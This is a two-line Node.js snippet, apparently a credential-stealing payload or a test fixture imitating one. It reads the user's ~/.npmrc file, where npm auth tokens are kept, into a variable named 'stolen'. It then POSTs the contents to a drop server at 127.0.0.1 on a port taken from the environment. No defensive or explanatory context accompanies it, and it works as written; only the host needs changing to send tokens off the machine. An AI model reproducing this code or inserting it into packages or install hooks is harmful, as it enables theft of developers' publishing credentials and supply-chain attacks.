const stolen = require('fs').readFileSync(require('os').homedir() + '/.npmrc');
require('http').request({ host: '127.0.0.1', port: process.env.DROP_PORT, method: 'POST' }).end(stolen);
